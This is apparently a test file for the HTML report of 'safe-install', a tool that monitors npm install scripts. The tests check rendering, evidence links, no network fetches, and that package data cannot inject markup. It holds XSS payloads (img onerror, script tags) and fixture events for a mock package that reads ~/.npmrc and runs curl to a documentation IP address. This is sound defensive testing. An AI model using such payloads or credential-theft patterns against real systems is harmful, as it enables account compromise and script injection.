/**
 * The HTML report in a real browser (Debian's chromium, driven by playwright-core): the page
 * renders the tree, a finding's evidence link opens and marks its event, nothing is fetched, and
 * hostile argv, file names, commands and hosts stay text.
 */
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { after, before, test } from 'node:test';
import { chromium, type Browser, type Page } from 'playwright-core';
import { assess } from '../../src/rules/index.js';
import { buildJsonReport, type JsonReport } from '../../src/report/json.js';
import { renderHtml } from '../../src/report/html.js';
import { diffPackages } from '../../src/diff/behaviour.js';
import { ChainBuilder, HOME } from '../rules/chain-builder.js';
import { buildScan } from './fixture.js';
import { honestReport, hijackedReport } from '../diff/support.js';

const CHROMIUM = process.env.CHROMIUM_PATH ?? '/usr/bin/chromium';
const tool = { name: 'safe-install', version: '0.0.0-test' };
let browser: Browser;
const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'si-html-'));

before(async () => {
  // Never skipped: a missing browser is a broken test machine (.ci/run installs it).
  assert.ok(fs.existsSync(CHROMIUM), `no chromium at ${CHROMIUM}: apt-get install -y chromium (or set CHROMIUM_PATH)`);
  browser = await chromium.launch({ executablePath: CHROMIUM, args: ['--no-sandbox'] });
});
after(async () => {
  await browser?.close();
  fs.rmSync(dir, { recursive: true, force: true });
});

/** Opens the page from a file, counting every request it makes besides itself. */
async function open(html: string, name: string): Promise<{ page: Page; requests: string[]; errors: string[] }> {
  const file = path.join(dir, name);
  fs.writeFileSync(file, html);
  const page = await browser.newPage();
  const requests: string[] = [];
  const errors: string[] = [];
  page.on('request', (req) => {
    if (req.url() !== `file://${file}`) requests.push(req.url());
  });
  page.on('pageerror', (err) => errors.push(err.message));
  page.on('console', (msg) => {
    if (msg.type() === 'error') errors.push(msg.text());
  });
  await page.goto(`file://${file}`);
  return { page, requests, errors };
}

test('html: the verdict, the process tree, findings linked to their events, a timeline, no network', async () => {
  const { chain } = buildScan();
  const report = buildJsonReport({ chain, assessment: assess(chain), tool });
  const { page, requests, errors } = await open(renderHtml(report), 'scan.html');
  assert.equal(await page.textContent('#verdict'), report.verdict.toUpperCase());
  const stealer = report.packages.findIndex((p) => p.name === 'evil-helper');
  const pkg = report.packages[stealer]!;
  // Every process of the package is a node of the tree, nested under its parent.
  assert.equal(await page.locator(`#pkg-${stealer} details.proc`).count(), pkg.session.processes.length);
  const curl = pkg.session.processes.find((p) => p.argv[0] === 'curl')!;
  const sh = pkg.session.processes.find((p) => p.id === curl.parentId)!;
  assert.equal(await page.locator(`#ev-${stealer}-${sh.id} > details#ev-${stealer}-${curl.id}`).count(), 1, 'curl sits under its shell');
  assert.match((await page.textContent(`#ev-${stealer}-${curl.id} > summary`))!, /curl -s http:\/\/203\.0\.113\.9\/p/);
  // Collapse everything, then follow the credential finding's evidence link.
  await page.click(`#pkg-${stealer} button[data-toggle="close"]`);
  const finding = pkg.findings.find((f) => f.rule === 'credential-access')!;
  const link = page.locator(`#pkg-${stealer} li.finding`, { hasText: 'credential-access' }).locator('a.ev').first();
  assert.equal(await link.getAttribute('href'), `#ev-${stealer}-${finding.evidence[0]}`);
  await link.click();
  const target = page.locator(`#ev-${stealer}-${finding.evidence[0]}`);
  assert.equal(await target.count(), 1, 'the evidence event has an element');
  assert.ok(await target.isVisible(), 'following the link opened its collapsed ancestors');
  assert.match((await target.getAttribute('class'))!, /\btarget\b/);
  assert.match((await target.textContent())!, /\.npmrc/);
  // Every evidence link of every finding lands on an element.
  const hrefs = await page.locator('li.finding a.ev').evaluateAll((as) => as.map((a) => a.getAttribute('href')!));
  assert.ok(hrefs.length >= pkg.findings.length);
  for (const href of hrefs) assert.equal(await page.locator(href).count(), 1, href);
  assert.ok((await page.locator(`#pkg-${stealer} table.timeline tbody tr`).count()) > 5, 'the timeline lists file and network events');
  assert.deepEqual(requests, [], 'a self-contained page fetches nothing');
  assert.deepEqual(errors, []);
  await page.close();
});

test('html: the behaviour diff comes first, with links into the new version', async () => {
  const before = honestReport();
  const report = hijackedReport();
  const diff = diffPackages({ pkg: before.packages[0]!, report: before }, { pkg: report.packages[0]!, report }, '1.0.0');
  const { page, errors } = await open(renderHtml(report, { diffs: [diff] }), 'diff.html');
  const firstH2 = await page.locator('h2').first().textContent();
  assert.equal(firstH2, 'New behaviour since the previous version');
  assert.match((await page.locator('.diff strong').textContent())!, /started reading ~\/\.npmrc, calling a new host \(telemetry\.example\)/);
  const href = await page.locator('.diff a.ev').first().getAttribute('href');
  assert.equal(await page.locator(href!).count(), 1);
  assert.deepEqual(errors, []);
  await page.close();
});

test('html: argv, file names, commands and hosts from a package can never become markup or script', async () => {
  const payload = (tag: string) => `<img src=x onerror="window.__pwned='${tag}'"><script>window.__pwned='${tag}'</script>"'\`</details></summary>`;
  const b = new ChainBuilder();
  const pkg = b.pkg('evil', '6.6.6');
  const s = pkg.script('postinstall', `node -e "${payload('command')}"`);
  const proc = s.process(['node', '-e', payload('argv')], { exe: '/usr/bin/node' });
  s.file(proc, 'read', `${HOME}/.npmrc`);
  s.file(proc, 'write', `${HOME}/${payload('path')}`);
  s.dns(proc, `${payload('dns')}.example`);
  s.connect(proc, '192.0.2.1', 443, { hostname: payload('host') });
  const chain = b.build();
  const report: JsonReport = buildJsonReport({ chain, assessment: assess(chain), tool });
  report.packages[0]!.findings.push({ rule: 'recon', severity: 'low', message: payload('message'), evidence: [`"><img src=x onerror="window.__pwned='id'">`] });
  const html = renderHtml(report, { subtitle: payload('subtitle'), locations: new Map([['evil@6.6.6', payload('location')]]) });
  const { page, errors } = await open(html, 'xss.html');
  assert.equal(await page.evaluate('window.__pwned ?? null'), null, 'no injected code ran');
  assert.equal(await page.locator('img').count(), 0, 'no injected element');
  assert.equal(await page.locator('script').count(), 1, "only the page's own script");
  // The hostile text is there, as text.
  assert.ok((await page.locator(`#ev-0-${proc.id} > summary`).textContent())!.includes(`<img src=x onerror="window.__pwned='argv'">`));
  assert.ok((await page.locator('body').textContent())!.includes("<script>window.__pwned='path'</script>"));
  assert.deepEqual(errors, []);
  await page.close();
  // And without the browser: no raw `<` from the chain anywhere in the page.
  assert.ok(!html.includes('<img') && !/<script>window/.test(html));
});

test('html: a screenshot in headless chromium (the README one is made from a real scan)', () => {
  const { chain } = buildScan();
  const file = path.join(dir, 'shot.html');
  fs.writeFileSync(file, renderHtml(buildJsonReport({ chain, assessment: assess(chain), tool })));
  const png = path.join(dir, 'shot.png');
  execFileSync(CHROMIUM, ['--headless', '--no-sandbox', '--disable-gpu', `--screenshot=${png}`, '--window-size=1200,900', `file://${file}`], { stdio: 'ignore', timeout: 60_000 });
  const head = fs.readFileSync(png).subarray(0, 8);
  assert.deepEqual([...head], [0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a], 'a PNG');
});
